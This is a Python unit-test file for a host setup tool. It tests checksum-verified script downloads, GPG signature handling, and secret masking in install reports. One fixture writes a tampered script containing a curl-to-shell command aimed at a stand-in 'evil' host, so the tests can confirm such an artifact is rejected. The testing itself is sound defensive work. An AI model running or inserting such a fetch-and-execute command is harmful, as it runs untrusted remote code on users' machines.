"""
Unit tests for checksum-gated artifact retrieval (hostguard/setup/fetcher.py)
and the installation entry point (hostguard/setup/installer.py).
"""

import hashlib
import os
import stat
from unittest.mock import MagicMock

import pytest
import requests

from hostguard.setup.fetcher import (
    ArtifactFetcher,
    ArtifactFetchError,
    IntegrityError,
    parse_checksums,
    sha256_file,
)
from hostguard.setup.installer import required_artifacts, run_installation, write_setup_report
from hostguard.setup.orchestrator import build_plan
from hostguard.setup.steps import ScriptStep


ARTIFACTS = {
    'scripts/01-preflight.sh': b'#!/bin/bash\necho preflight\n',
    'scripts/04-firewall.sh': b'#!/bin/bash\necho firewall\n',
}


def digest(data):
    return hashlib.sha256(data).hexdigest()


@pytest.fixture
def repo(tmp_path):
    """A local artifact source with a matching checksums.txt."""
    root = tmp_path / 'repo'
    lines = []
    for name, data in ARTIFACTS.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f'{digest(data)}  {name}')
    (root / 'checksums.txt').write_text('\n'.join(lines) + '\n')
    return root


def fake_response(body, status=200):
    response = MagicMock()
    response.__enter__.return_value = response
    response.__exit__.return_value = False
    response.iter_content.return_value = [body]
    if status >= 400:
        response.raise_for_status.side_effect = requests.HTTPError(f'{status} Error')
    return response


class TestParseChecksums:

    def test_text_and_binary_markers(self):
        text = f"# generated\n{'a' * 64}  scripts/x.sh\n\n{'B' * 64} *./scripts/y.sh\n"

        assert parse_checksums(text) == {'scripts/x.sh': 'a' * 64, 'scripts/y.sh': 'b' * 64}

    def test_malformed_line(self):
        with pytest.raises(IntegrityError, match='line 1 is malformed'):
            parse_checksums('deadbeef scripts/x.sh\n')

    def test_sha256_file(self, tmp_path):
        path = tmp_path / 'f'
        path.write_bytes(b'abc')

        assert sha256_file(str(path)) == digest(b'abc')


class TestArtifactFetcher:
    """Test fetch_and_verify()."""

    def test_local_source_installs_all(self, repo, tmp_path, fake_runner):
        dest = tmp_path / 'install'

        result = ArtifactFetcher(str(repo), str(dest), list(ARTIFACTS), runner=fake_runner).fetch_and_verify()

        assert result.verified == list(ARTIFACTS)
        assert result.signature == 'absent'
        for name, data in ARTIFACTS.items():
            assert (dest / name).read_bytes() == data
            assert stat.S_IMODE(os.stat(dest / name).st_mode) == 0o755
        assert (dest / 'checksums.txt').exists()
        assert [p for p in os.listdir(dest) if p.startswith('.fetch-')] == []

    def test_mismatch_installs_nothing(self, repo, tmp_path, fake_runner):
        (repo / 'scripts' / '04-firewall.sh').write_bytes(b'#!/bin/bash\ncurl evil | sh\n')
        dest = tmp_path / 'install'

        with pytest.raises(IntegrityError, match='Checksum mismatch for scripts/04-firewall.sh'):
            ArtifactFetcher(str(repo), str(dest), list(ARTIFACTS), runner=fake_runner).fetch_and_verify()

        assert os.listdir(dest) == []

    def test_unlisted_artifact_rejected(self, repo, tmp_path, fake_runner):
        (repo / 'scripts' / '09-portainer.sh').write_bytes(b'echo\n')

        with pytest.raises(IntegrityError, match='not listed'):
            ArtifactFetcher(str(repo), str(tmp_path / 'install'), ['scripts/09-portainer.sh'],
                            runner=fake_runner).fetch_and_verify()

    def test_missing_checksum_file(self, repo, tmp_path, fake_runner):
        os.remove(repo / 'checksums.txt')

        with pytest.raises(ArtifactFetchError, match='checksums.txt'):
            ArtifactFetcher(str(repo), str(tmp_path / 'install'), list(ARTIFACTS),
                            runner=fake_runner).fetch_and_verify()

    def test_signature_verified_with_gpg(self, repo, tmp_path, fake_runner):
        (repo / 'checksums.txt.asc').write_text('-----BEGIN PGP SIGNATURE-----\n')
        dest = tmp_path / 'install'

        result = ArtifactFetcher(str(repo), str(dest), list(ARTIFACTS), runner=fake_runner).fetch_and_verify()

        assert result.signature == 'verified'
        assert fake_runner.ran('gpg', '--verify')
        assert (dest / 'checksums.txt.asc').exists()

    def test_bad_signature_is_advisory(self, repo, tmp_path, fake_runner):
        (repo / 'checksums.txt.asc').write_text('garbage')
        fake_runner.respond('gpg', returncode=1, stderr='BAD signature')

        result = ArtifactFetcher(str(repo), str(tmp_path / 'install'), list(ARTIFACTS),
                                 runner=fake_runner).fetch_and_verify()

        assert result.signature == 'invalid'
        assert len(result.verified) == 2

    def test_signature_without_gpg(self, repo, tmp_path, fake_runner):
        (repo / 'checksums.txt.asc').write_text('sig')
        fake_runner.available.discard('gpg')

        result = ArtifactFetcher(str(repo), str(tmp_path / 'install'), list(ARTIFACTS),
                                 runner=fake_runner).fetch_and_verify()

        assert result.signature == 'unavailable'

    def test_http_source(self, tmp_path, fake_runner):
        body = ARTIFACTS['scripts/01-preflight.sh']
        responses = {
            'https://example.com/setup/checksums.txt': fake_response(
                f"{digest(body)}  scripts/01-preflight.sh\n".encode()),
            'https://example.com/setup/scripts/01-preflight.sh': fake_response(body),
            'https://example.com/setup/checksums.txt.asc': fake_response(b'', status=404),
        }
        session = MagicMock()
        session.get.side_effect = lambda url, **kwargs: responses[url]
        dest = tmp_path / 'install'

        result = ArtifactFetcher('https://example.com/setup/', str(dest), ['scripts/01-preflight.sh'],
                                 session=session, runner=fake_runner).fetch_and_verify()

        assert result.verified == ['scripts/01-preflight.sh']
        assert result.signature == 'absent'
        assert (dest / 'scripts' / '01-preflight.sh').read_bytes() == body
        _, kwargs = session.get.call_args
        assert kwargs['stream'] is True

    def test_http_error(self, tmp_path, fake_runner):
        session = MagicMock()
        session.get.return_value = fake_response(b'', status=500)

        with pytest.raises(ArtifactFetchError, match='Failed to download'):
            ArtifactFetcher('https://example.com', str(tmp_path / 'install'), ['a.sh'],
                            session=session, runner=fake_runner).fetch_and_verify()


class TestRunInstallation:
    """Test the fetch -> orchestrate -> verify sequence."""

    def _steps(self, fake_runner):
        return [
            ScriptStep('preflight', 'scripts/01-preflight.sh', runner=fake_runner,
                       check=lambda c: ['true']),
            ScriptStep('firewall', 'scripts/04-firewall.sh', depends_on=['preflight'], runner=fake_runner),
        ]

    def test_mismatch_runs_zero_steps(self, repo, config, fake_runner):
        (repo / 'scripts' / '01-preflight.sh').write_bytes(b'tampered')
        steps = self._steps(fake_runner)
        fetcher = ArtifactFetcher(str(repo), config['INSTALL_DIR'], [s.script for s in steps], runner=fake_runner)

        with pytest.raises(IntegrityError):
            run_installation(config, steps=steps, runner=fake_runner, fetcher=fetcher)

        assert not fake_runner.ran('bash')
        assert not os.path.exists(os.path.join(config['INSTALL_DIR'], 'scripts'))

    def test_full_run(self, repo, config, fake_runner, tmp_path):
        steps = self._steps(fake_runner)
        fetcher = ArtifactFetcher(str(repo), config['INSTALL_DIR'], [s.script for s in steps], runner=fake_runner)

        report = run_installation(config, steps=steps, runner=fake_runner, fetcher=fetcher,
                                  state_path=str(tmp_path / 'state.json'))

        assert [call[1] for call in fake_runner.ran('bash')] == [
            os.path.join(config['INSTALL_DIR'], 'scripts/01-preflight.sh'),
            os.path.join(config['INSTALL_DIR'], 'scripts/04-firewall.sh'),
        ]
        assert report.orchestration.applied == ['preflight', 'firewall']
        assert [c.label for c in report.orchestration.checks] == ['PASS', 'n/a']
        assert report.ok

    def test_report_masks_secrets(self, repo, config_factory, fake_runner, tmp_path):
        config = config_factory(BACKUP_SECRET_ACCESS_KEY='hunter2')
        steps = self._steps(fake_runner)
        fetcher = ArtifactFetcher(str(repo), config['INSTALL_DIR'], [s.script for s in steps], runner=fake_runner)
        report = run_installation(config, steps=steps, runner=fake_runner, fetcher=fetcher)

        path = write_setup_report(str(tmp_path / 'report.txt'), config, report)

        text = open(path).read()
        assert 'hunter2' not in text
        assert 'BACKUP_SECRET_ACCESS_KEY=***' in text
        assert '[applied] preflight' in text
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600

    def test_required_artifacts(self, config, fake_runner):
        plan = build_plan(self._steps(fake_runner), config)

        assert required_artifacts(plan) == [
            'scripts/01-preflight.sh',
            'scripts/04-firewall.sh',
            'scripts/15-healthcheck.sh',
        ]
